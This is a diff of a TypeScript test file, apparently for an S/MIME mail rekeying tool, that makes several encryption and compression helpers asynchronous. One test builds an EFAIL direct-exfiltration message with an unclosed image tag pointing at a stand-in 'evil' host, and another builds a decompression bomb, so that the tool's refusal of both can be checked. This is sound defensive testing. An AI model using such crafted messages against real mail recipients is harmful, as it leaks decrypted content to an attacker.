@@ -48,7 +48,7 @@ describe('rekey', () => {
   test.each(['aes-128-gcm', 'aes-256-gcm'] as const)(
     'of %s: the same recipients read what was edited, and nobody else does (R52, R53)',
     async (cipher) => {
-      const octets = kit.messageOf(header, kit.enveloped(kit.text(), [bob, carol, ann], cipher));
+      const octets = kit.messageOf(header, await kit.enveloped(kit.text(), [bob, carol, ann], cipher));
       const result = await kit.edit(octets, rekey, keystore);
       expect(result).toMatchObject({ kind: 'sealed', isDecrypted: true, record: { action: 'rekey', signers: [] } });
       const out = kit.octetsOf(result);
@@ -63,7 +63,7 @@ describe('rekey', () => {
 
   test('keeps OAEP, and CBC where it may be kept at all', async () => {
     const padding = { kind: 'oaep', digest: 'sha256', label: new Uint8Array(0) } as const;
-    const octets = kit.messageOf(header, kit.enveloped(kit.text(), [{ ...bob, padding }], 'aes-128-cbc'));
+    const octets = kit.messageOf(header, await kit.enveloped(kit.text(), [{ ...bob, padding }], 'aes-128-cbc'));
     expect(await kit.edit(octets, rekey, keystore)).toMatchObject({
       kind: 'skip',
       record: { fallbacks: [{ action: 'rekey', reason: expect.stringContaining('EFAIL') }] },
@@ -80,7 +80,10 @@ describe('rekey', () => {
     ['clear', kit.clear],
     ['opaque', kit.opaque],
   ])('of CBC with a valid %s signature inside signs again inside (R54)', async (_, sign) => {
-    const octets = kit.messageOf(header, kit.enveloped(await sign(kit.alternative, [ann]), [bob, ann], 'aes-256-cbc'));
+    const octets = kit.messageOf(
+      header,
+      await kit.enveloped(await sign(kit.alternative, [ann]), [bob, ann], 'aes-256-cbc'),
+    );
     const result = await kit.edit(octets, rekey, keystore);
     expect(result).toMatchObject({
       record: { action: 'rekey', reason: expect.stringContaining('inside: resign'), signers: [{ verdict: 'valid' }] },
@@ -126,7 +129,7 @@ describe('rekey', () => {
   test('refuses an encrypted part among others: they could quote it (EFAIL, direct exfiltration)', async () => {
     const octets = Buffer.from(
       `${header}Content-Type: multipart/mixed; boundary=m\r\n\r\n--m\r\nContent-Type: text/plain; name=a\r\n\r\n<img src="http://evil/\r\n--m\r\n` +
-        `${kit.enveloped(kit.text(), [bob]).toString()}\r\n--m--\r\n`,
+        `${(await kit.enveloped(kit.text(), [bob])).toString()}\r\n--m--\r\n`,
     );
     expect(await kit.edit(octets, rekey, keystore)).toMatchObject({
       kind: 'skip',
@@ -135,7 +138,7 @@ describe('rekey', () => {
   });
 
   test('does what the policy for signed mail says inside, or nothing', async () => {
-    const octets = kit.messageOf(header, kit.enveloped(await kit.clear(kit.text(), [ann]), [bob]));
+    const octets = kit.messageOf(header, await kit.enveloped(await kit.clear(kit.text(), [ann]), [bob]));
     expect(await kit.edit(octets, { encrypted: ['rekey'] }, keystore)).toMatchObject({
       kind: 'skip',
       record: { action: 'skip', fallbacks: [{ action: 'rekey', reason: expect.stringContaining('inside: signed') }] },
@@ -152,7 +155,7 @@ describe('rekey', () => {
 
   test('of a message wrapped three times, signed, encrypted and signed, does every layer again', async () => {
     const inner = await kit.clear(kit.text(), [ann]);
-    const octets = kit.messageOf(header, await kit.opaque(kit.enveloped(inner, [bob, ann]), [ann]));
+    const octets = kit.messageOf(header, await kit.opaque(await kit.enveloped(inner, [bob, ann]), [ann]));
     const result = await kit.edit(octets, rekey, keystore);
     expect(result).toMatchObject({ kind: 'sealed', record: { action: 'resign', signers: [{}, {}] } });
     const out = kit.octetsOf(result);
@@ -165,7 +168,7 @@ describe('rekey', () => {
   });
 
   test('falls back to wrap for the outer signature where what is inside cannot be opened', async () => {
-    const octets = kit.messageOf(header, await kit.opaque(kit.enveloped(kit.text(), [carol]), [ann]));
+    const octets = kit.messageOf(header, await kit.opaque(await kit.enveloped(kit.text(), [carol]), [ann]));
     const result = await kit.edit(octets, { ...rekey, signed: ['resign', 'strip', 'wrap'] }, keystore);
     expect(result).toMatchObject({ kind: 'sealed', record: { action: 'wrap' } });
     expect('record' in result && result.record.fallbacks.map(({ action }) => action)).toEqual([
@@ -177,8 +180,8 @@ describe('rekey', () => {
   });
 
   test('inflates what is compressed inside, and compresses it again (R56)', async () => {
-    const packed = writePkcs7Mime(compress(kit.text()), 'compressed-data');
-    const octets = kit.messageOf(header, kit.enveloped(await kit.opaque(packed, [ann]), [bob]));
+    const packed = await writePkcs7Mime(await compress(kit.text()), 'compressed-data');
+    const octets = kit.messageOf(header, await kit.enveloped(await kit.opaque(packed, [ann]), [bob]));
     const out = kit.octetsOf(await kit.edit(octets, rekey, keystore));
     const signed = await openFor(out, bob);
     const found = await verifyPart(signed, openMessage(signed).root);
@@ -187,8 +190,8 @@ describe('rekey', () => {
   });
 
   test('refuses a bomb inside (R56)', async () => {
-    const bomb = compress(kit.text('a'.repeat(40 * 2 ** 20)));
-    const packed = writePkcs7Mime(bomb, 'compressed-data');
+    const bomb = await compress(kit.text('a'.repeat(40 * 2 ** 20)));
+    const packed = await writePkcs7Mime(bomb, 'compressed-data');
     const octets = kit.messageOf(header, await kit.opaque(packed, [ann]));
     const result = await kit.edit(octets, { signed: ['resign'] }, keystore);
     expect(result).toMatchObject({ kind: 'skip' });
@@ -223,8 +226,8 @@ async function beside(): Promise<Buffer> {
   ]);
 }
 
-function damaged(): Buffer {
-  const entity = kit.enveloped(kit.text('x'.repeat(3000)), [bob]);
+async function damaged(): Promise<Buffer> {
+  const entity = await kit.enveloped(kit.text('x'.repeat(3000)), [bob]);
   entity[entity.length - 200] = entity[entity.length - 200] === 0x41 ? 0x42 : 0x41;
   return entity;
 }
@@ -265,7 +268,7 @@ describe('header protection (RFC 9788, R57)', () => {
   });
 
   test('encrypted again, hidden fields stay as they are', async () => {
-    const octets = kit.messageOf(header, kit.enveloped(Buffer.from(hidden + body), [bob]));
+    const octets = kit.messageOf(header, await kit.enveloped(Buffer.from(hidden + body), [bob]));
     const inside = (await openFor(kit.octetsOf(await kit.edit(octets, rekey, keystore)), bob)).toString();
     expect(inside).toContain('Subject: The secret\r\n');
     const named = await kit.edit(octets, rekey, keystore, [setSubject, kit.disclaimer]);
@@ -307,9 +310,10 @@ describe('what is not opened', () => {
   });
 
   test.each([
-    ['octets that are no CMS', 'AAAA'],
-    ['compressed data that nobody signed', compress(kit.text()).toString('base64')],
-  ])('cryptography that cannot be read is skipped or rejected: %s', async (_, body) => {
+    ['octets that are no CMS', async () => Buffer.alloc(3)],
+    ['compressed data that nobody signed', () => compress(kit.text())],
+  ])('cryptography that cannot be read is skipped or rejected: %s', async (_, make) => {
+    const body = (await make()).toString('base64');
     const octets = Buffer.from(
       `${header}Content-Type: application/pkcs7-mime\r\nContent-Transfer-Encoding: base64\r\n\r\n${body}\r\n`,
     );
